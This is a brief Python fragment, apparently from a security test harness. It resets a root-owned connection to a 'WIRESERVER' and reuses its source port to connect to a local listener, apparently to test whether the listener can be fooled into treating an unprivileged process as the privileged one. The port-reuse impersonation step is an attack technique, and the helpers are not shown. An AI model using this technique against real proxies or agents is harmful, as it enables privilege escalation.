# Connects to the listener itself, from the port of a redirected connection that root has just reset.
#   heir.py root|attack SOURCE_PORT
role, port = sys.argv[1], int(sys.argv[2])
sock = bound('127.0.0.1', port)
if role == 'root':
    sock.connect(WIRESERVER)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack('ii', 1, 0))
    sock.close()
else:
    sock.connect(LISTENER)
    sock.sendall(request('heir', WIRESERVER))
    tell(connected=True)
    proceed()
    tell(status=status(sock))
